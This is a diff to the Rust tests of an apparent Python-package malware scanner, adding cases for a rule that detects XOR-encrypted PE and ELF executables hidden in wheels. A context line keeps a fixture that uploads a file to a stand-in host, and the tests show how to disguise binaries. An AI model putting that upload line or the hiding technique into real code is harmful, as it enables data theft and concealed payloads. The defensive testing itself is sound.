@@ -1,5 +1,6 @@
 //! Must-match and must-not-match cases for the PKG rules whose fixtures are package
-//! structure rather than one file (`FIXTURES_IN_CODE` in `registry.rs`): PKG002 to PKG008.
+//! structure rather than one file (`FIXTURES_IN_CODE` in `registry.rs`): PKG002 to PKG008
+//! and PKG011.
 //! Each case builds an [`Artifact`] in memory — a wheel, or an installed environment whose
 //! entries carry their sha256 as `assay_sources` computes it — and runs the whole engine.
 #![allow(clippy::unwrap_used)]
@@ -402,5 +403,54 @@ requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
             .all(|f| f.context != Some(assay_core::ExecutionContext::ImportTime)),
         "{:?}",
         r.findings
+    );
+}
+
+/// A minimal PE image header: `MZ`, `e_lfanew` = 0x80 at 0x3C, `PE\0\0` at 0x80.
+fn pe_image() -> Vec<u8> {
+    let mut pe = vec![0u8; 0x200];
+    pe[0] = b'M';
+    pe[1] = b'Z';
+    pe[0x3c] = 0x80;
+    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+    pe
+}
+
+fn xor(data: &[u8], key: u8) -> Vec<u8> {
+    data.iter().map(|b| b ^ key).collect()
+}
+
+#[test]
+fn pkg011_xor_encrypted_pe_named_py_matches() {
+    let hidden = xor(&pe_image(), 0xe3);
+    let a = wheel("x", &[("x/__init__.py", b""), ("x/test.py", &hidden)]);
+    let got = assert_matches(&a, "PKG011");
+    assert_eq!(got, vec![(Severity::Critical, "x/test.py".to_owned())]);
+    let elf = xor(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", 0x5a);
+    assert_matches(&wheel("x", &[("x/blob.dat", &elf)]), "PKG011");
+}
+
+#[test]
+fn pkg011_plain_random_and_near_miss_files_do_not_match() {
+    // A plain PE is PKG004's finding, not this rule's.
+    assert_no_match(&wheel("x", &[("x/a.dll", &pe_image())]), "PKG011");
+    // The two-byte magic under some key without the PE signature behind it.
+    let mut near = xor(&pe_image(), 0x21);
+    near[0x80] ^= 0xff;
+    assert_no_match(&wheel("x", &[("x/near.bin", &near)]), "PKG011");
+    // Pseudo-random bytes (an xorshift stream), e.g. compressed data.
+    let mut s: u64 = 0x9e37_79b9_7f4a_7c15;
+    let noise: Vec<u8> = (0..4096)
+        .map(|_| {
+            s ^= s << 13;
+            s ^= s >> 7;
+            s ^= s << 17;
+            (s >> 24) as u8
+        })
+        .collect();
+    assert_no_match(&wheel("x", &[("x/noise.bin", &noise)]), "PKG011");
+    assert_no_match(
+        &wheel("x", &[("x/mod.py", b"import os\nprint('MZ')\n")]),
+        "PKG011",
     );
 }
